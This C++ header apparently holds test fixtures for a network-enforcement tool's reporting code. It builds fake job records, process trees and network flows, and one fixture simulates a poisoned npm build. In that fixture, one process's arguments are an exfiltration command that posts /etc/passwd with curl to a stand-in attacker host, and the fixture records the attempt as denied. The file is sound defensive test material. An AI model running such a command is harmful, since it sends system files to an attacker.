// SPDX-License-Identifier: Apache-2.0
// A job of several processes, as the store would give it.
#pragma once

#include <string>
#include <utility>

#include "collector/store/model.h"

namespace weir::report {

inline constexpr std::int64_t kBegin = 1'767'225'600'000'000'000;  // 2026-01-01T00:00:00Z
inline constexpr std::int64_t kMs = 1'000'000;

/// An enforcement record as docs/record.md has it, with the given pieces.
inline std::string RecordJson(bool armed, bool complete, std::uint64_t denied, const std::string& more = "") {
  const auto word = [](bool value) { return value ? std::string("true") : std::string("false"); };
  return R"({"_type":"https://in-toto.io/Statement/v1","predicate":{"schema":"weir.record.v1","armed":{"armed":)" +
         word(armed) + R"(,"reasons":[)" + (armed ? "" : R"("cgroup/connect4 does not attach")") +
         R"(]},"canaries":[{"at":"2026-01-01T00:00:00Z","verdict":"deny","proven":true},)" +
         R"({"at":"2026-01-01T00:01:02Z","verdict":"deny","proven":true}],"complete":)" + word(complete) +
         R"(,"counts":{"allowed":120,"denied":)" + std::to_string(denied) + R"(,"would_deny":0})" + more + "}}";
}

inline void AddProcess(store::JobEvidence& job, std::uint64_t exec_id, std::uint64_t parent, std::string executable,
                       std::vector<std::string> arguments) {
  store::StoredExec stored;
  stored.exec.exec_id = exec_id;
  stored.exec.parent_exec_id = parent;
  stored.exec.pid = static_cast<std::uint32_t>(4000 + exec_id);
  stored.exec.executable = executable;
  stored.exec.arguments = arguments;
  stored.exec.comm = "comm";
  stored.time_ns = kBegin + static_cast<std::int64_t>(exec_id) * kMs;
  stored.exit_ns = stored.time_ns + 800 * kMs;
  job.processes.processes.push_back(stored);
  job.flows.images[{1, exec_id}] = {parent, stored.exec.pid, std::move(executable), std::move(arguments)};
}

inline store::StoredFlow& AddFlow(store::JobEvidence& job, std::uint64_t exec_id, std::string name, std::string address,
                                  store::Verdict verdict, std::string why, std::uint64_t bytes = 0) {
  store::StoredFlow flow;
  flow.job_ref = 1;
  flow.job_id = "job-1";
  flow.flow.key = {exec_id, std::move(address), 443, "tcp", verdict, store::Hook::kConnect, std::move(why)};
  flow.flow.pid = static_cast<std::uint32_t>(4000 + exec_id);
  flow.flow.comm = "comm";
  flow.flow.name = std::move(name);
  flow.totals = {kBegin, kBegin + kMs, 3, bytes, bytes * 4, 2, 2};
  for (store::StoredExec& process : job.processes.processes) {
    if (process.exec.exec_id != exec_id) continue;
    ++(verdict == store::Verdict::kAllow ? process.flows_allowed : process.flows_denied);
  }
  return job.flows.flows.emplace_back(std::move(flow));
}

inline store::JobEvidence FinishedJob(std::string record) {
  store::JobEvidence job;
  job.job.ref = 1;
  job.job.job_id = "job-1";
  job.job.sensor = "runner-1";
  job.job.begin = {"build",
                   store::Mode::kBlock,
                   "sha256:1234",
                   "version: 1\nmode: block\n",
                   {{"repository", "org/x"}},
                   {"npm", "ci"},
                   "/weir/job-1",
                   1,
                   "runner-1",
                   "6.1.0",
                   "0.1.0"};
  job.job.begin_ns = kBegin;
  job.job.end_ns = kBegin + 62'300 * kMs;
  job.job.end = {0, std::move(record), true};
  return job;
}

/// Processes and destinations of a poisoned npm build.
inline store::JobEvidence PoisonedBuild() {
  store::JobEvidence job = FinishedJob(RecordJson(true, true, 4));
  AddProcess(job, 1, 0, "/usr/bin/bash", {"bash", "-e", "build.sh"});
  AddProcess(job, 2, 1, "/usr/bin/node", {"node", "/usr/bin/npm", "ci"});
  AddProcess(job, 3, 2, "/usr/bin/dash", {"sh", "-c", "node install.js"});
  AddProcess(job, 4, 3, "/usr/bin/curl", {"curl", "-d", "@/etc/passwd", "https://evil.example.org/"});
  AddProcess(job, 5, 1, "/usr/bin/git", {"git", "fetch", "origin"});
  AddFlow(job, 4, "", "203.0.113.66", store::Verdict::kDeny, "no-rule");
  store::StoredFlow& lookup = AddFlow(job, 4, "evil.example.org", "192.0.2.53", store::Verdict::kDeny, "dns-name");
  lookup.flow.key.hook = store::Hook::kDns;
  lookup.flow.key.port = 53;
  lookup.flow.key.protocol = "udp";
  lookup.query_type = "A";
  AddFlow(job, 2, "registry.example.org", "198.51.100.7", store::Verdict::kAllow, "name", 48'000'000).flow.rule =
      "registry.example.org:443";
  AddFlow(job, 2, "registry.example.org", "198.51.100.8", store::Verdict::kAllow, "name", 2'000'000).flow.rule =
      "registry.example.org:443";
  AddFlow(job, 5, "git.example.org", "198.51.100.20", store::Verdict::kAllow, "name", 900'000).flow.rule =
      "git.example.org:443";
  return job;
}

}  // namespace weir::report
